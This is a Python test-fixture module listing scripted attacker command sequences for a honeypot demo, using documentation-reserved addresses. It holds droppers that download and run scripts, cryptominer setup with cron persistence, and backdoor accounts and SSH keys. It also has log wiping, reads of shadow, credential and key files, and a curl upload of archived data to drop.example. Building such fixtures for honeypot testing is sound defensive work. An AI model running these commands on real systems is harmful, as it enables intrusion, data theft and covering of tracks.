"""Command lines of the demo's attackers. Every address and name in them is reserved for documentation.

What they fetch is harmless text (``bait_server``); nothing in here works outside a honeypot that only
pretends. Nobody searches from the root of the file system: Cowrie 3.1.4 then answers nobody else, for many
minutes.
"""

from __future__ import annotations

from tests.recording.typist import BACKSPACE, CTRL_C, CTRL_U, TAB, UP, Line, Paste

B = BACKSPACE

RECON: tuple[str, ...] = (
    "uname -s -v -n -r -m",
    "uname -a; nproc; cat /proc/cpuinfo | grep 'model name' | head -1",
    "cat /etc/issue; id; uptime",
    "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share /dev/ttyGSM* /dev/ttyUSB*",
    "ps aux | grep '[Mm]iner'; ps aux | head -10; lscpu | grep Model",
    "/ip cloud print",
    "which ls; free -m; w; crontab -l; top -bn1 | head -5",
)
DROPPER: tuple[str, ...] = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.201/bins/loader.sh; "
    "curl -O http://203.0.113.201/bins/loader.sh; chmod 777 loader.sh; sh loader.sh; "
    "tftp 203.0.113.201 -c get tftp1.sh; rm -rf loader.sh tftp1.sh",
    "/bin/busybox cat /proc/self/exe || cat /bin/echo; /bin/busybox KAMOTO",
    "cd /dev/shm; echo -ne '\\x23\\x21\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\\x0a' > .d; chmod +x .d; ./.d; /bin/busybox rm .d",
    "wget -q http://files.example/arm7 -O /tmp/.x; chmod 755 /tmp/.x; /tmp/.x ssh.{n}; history -c",
)
MINER: tuple[str, ...] = (
    "nproc; cat /proc/cpuinfo | grep name | wc -l; free -m",
    "pkill -9 xmrig; pkill -9 kinsing; killall -9 kdevtmpfsi; ps aux | grep -v grep | grep kthreadd",
    "mkdir -p /tmp/.sys; cd /tmp/.sys; curl -s http://pool.example/c3pool/setup.sh -o setup.sh; chmod +x setup.sh",
    "./setup.sh -o pool.example:3333 -u 4{n}demo.worker -p x --donate-level 1 --threads 2",
    "(crontab -l; echo '*/5 * * * * /tmp/.sys/setup.sh >/dev/null 2>&1') | crontab -",
    "crontab -l | wc -l; sysctl -w vm.nr_hugepages=128",
)
PERSISTENCE: tuple[Line, ...] = (
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    Paste(
        'rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQdemo{n} key@demo">>.ssh/authorized_keys && '
        "chmod -R go= ~/.ssh && cd ~"
    ),
    "useradd -m svc{n}",
    CTRL_C,
    "echo 'svc{n}:x:0:0::/root:/bin/bash' >> /etc/passwd; usermod -aG sudo svc{n}",
    "echo '/usr/local/sbin/.netd &' >> /etc/rc.local; chmod +x /etc/rc.local",
    Paste(
        "printf '[Unit]\\nDescription=Network\\n[Service]\\nExecStart=/usr/local/sbin/.netd\\n' > /etc/systemd/system/netd.service"
    ),
    "systemctl enable netd; systemctl start netd",
    "chattr +ia ~/.ssh/authorized_keys",
    "passwd",
    "Spring-{n}-2026",
    "Spring-{n}-2026",
    "exit",
)
EXPLORER: tuple[tuple[Line, ...], ...] = (
    (
        "whoami",
        "sl" + B * 2 + "ls -la",
        "cat /etc/pas" + TAB + "swd",
        "unmae" + CTRL_U + "uname -a",
        UP,
        "ifconfig",
        "pwd",
        "exit",
    ),
    (
        "ls",
        "cd /var/ww" + TAB + "w",
        "ls -al",
        UP + UP,
        "cat index.html",
        "ping 192.0.2.1" + CTRL_C,
        "netstat -an",
        "exit",
    ),
    (
        "ps aux",
        "cat /etc/shadwo" + B * 2 + "ow",
        "tail -f /var/log/syslog" + CTRL_C,
        "find /etc -name '*.conf'",
        "hsitory",
        "history",
        "exit",
    ),
    (
        "uptime",
        Paste("for i in 1 2 3; do echo $i; done"),
        "mysql -u root -p" + CTRL_C,
        "cat /root/.bash_histroy",
        UP + B * 3 + "ory",
        "w",
        "exit",
    ),
    (
        "df -h",
        "mount",
        "dmesg | tial",
        UP + B * 3 + "ail",
        "last",
        "cat /proc/verison" + B * 5 + "rsion",
        Paste("cat /etc/hosts\ncat /etc/resolv.conf"),
        "exit",
    ),
)
CAREFUL: tuple[tuple[Line, ...], ...] = (
    (
        "unset HISTFILE; export HISTSIZE=0",
        "id",
        "hostname",
        "ls -la /opt /srv",
        "cat /etc/hosts",
        "ss -tlnp",
        "history -c",
        "exit",
    ),
    (
        "export HISTFILE=/dev/null",
        "w",
        "last -5",
        "ps -ef",
        "cat /etc/crontab",
        "rm -f ~/.bash_history; history -c",
        "exit",
    ),
    (
        "set +o history",
        "who",
        "cat /etc/ssh/sshd_config",
        "getent passwd",
        "touch -r /etc/hosts /etc/crontab",
        "history -cw",
        "exit",
    ),
    (
        "unset HISTFILE",
        "uptime",
        "ip addr",
        "arp -a",
        "cat /etc/fstab",
        "ls -la /var/backups",
        "history -c && kill -9 $$",
    ),
)
WIPER: tuple[Line, ...] = (
    "cd /var/log; ls -la",
    "rm -rf /var/log/wtmp /var/log/btmp /var/log/lastlog; rm -rf /var/log/secure /var/log/messages",
    "echo > /var/log/auth.log; cat /dev/null > /var/log/syslog",
    "sed -i '/203.0.113.{n}/d' /var/log/auth.log",
    "find /home /root -name '*.bash_history' -exec rm -f {} \\;",
    "shred -u ~/.bash_history; history -c; unset HISTFILE",
    "exit",
)
THIEF: tuple[Line, ...] = (
    "ls -la /home /srv /var/backups",
    "find /var/www /home -name '*.sql' -o -name '.env' -o -name 'id_rsa'",
    "cat /root/.aws/credentials /home/*/.ssh/id_rsa",
    "mysqldump -u root --all-databases > /tmp/db{n}.sql",
    "tar czf /tmp/.b{n}.tgz /etc /home /var/www",
    "curl -s -F 'file=@/tmp/.b{n}.tgz' http://drop.example/up.php?id={n}",
    "rm -f /tmp/.b{n}.tgz /tmp/db{n}.sql",
    "exit",
)
TELNET_BOT: tuple[Line, ...] = (
    "enable", "system", "shell", "sh", "/bin/busybox MIRAI",
    "cat /proc/mounts; /bin/busybox PEACH",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox wget; /bin/busybox tftp",
    "wget http://203.0.113.202/mips{n} -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper",
    "exit",
)  # fmt: skip
OPERATOR_A: tuple[tuple[str, ...], ...] = (
    ("w", "last -10", "cat /etc/passwd", "ls -la /home", "ls -la /var/www"),
    ("hostname -f", "cat /etc/hosts", "netstat -tlnp", "ps -ef", "cat /etc/crontab"),
    ("cd /var/www", "ls -la", "find . -name 'config*.php'", "cat config.php", "cd /srv", "ls -la"),
    ("find /srv -name '*.sql'", "ls -la /var/backups", "tar czf /tmp/b.tgz /var/backups", "ls -la /tmp"),
    ("cat /root/.bash_history", "cat /root/.ssh/known_hosts", "grep -r password /etc", "df -h"),
)
OPERATOR_B: tuple[str, ...] = (
    "nproc; free -m; uname -a",
    "cd /tmp; rm -rf .k; mkdir .k; cd .k; wget -q http://cdn.example/k{n}.sh; chmod +x k{n}.sh; sh k{n}.sh",
    "pkill -9 xmrig; pkill -9 kinsing; iptables -F",
    "echo '*/10 * * * * curl -s http://cdn.example/k.sh|sh' | crontab -",
    "history -c",
)
LONE: tuple[str, ...] = (
    "uname -a", "id", "w", "ls -la", "ps aux", "df -h", "free -m", "uptime", "cat /etc/os-release", "cat /etc/passwd",
    "netstat -an", "ifconfig", "last", "crontab -l", "cat /etc/hosts", "ls -la /tmp", "ls -la /var/www", "env",
    "cat /proc/cpuinfo", "cd /tmp", "wget http://tools.example/scan{n}.py", "python3 scan{n}.py 192.0.2.0/24",
    "curl -O http://tools.example/list{n}.json", "chmod +x scan{n}.py", "tail /var/log/auth.log", "history",
    "which python3 gcc nmap", "ssh root@192.0.2.31" + CTRL_C, "mount", "sl" + B * 2 + "ls", "cat /etc/shadow",
)  # fmt: skip
EOF_MARK = "exit"


def numbered(lines: tuple[Line, ...], number: int) -> tuple[Line, ...]:
    """``lines`` with ``{n}`` replaced, so that two sessions of one playbook are not the same keystrokes."""
    return tuple(
        Paste(line.text.replace("{n}", str(number)))
        if isinstance(line, Paste)
        else line.replace("{n}", str(number))
        for line in lines
    )
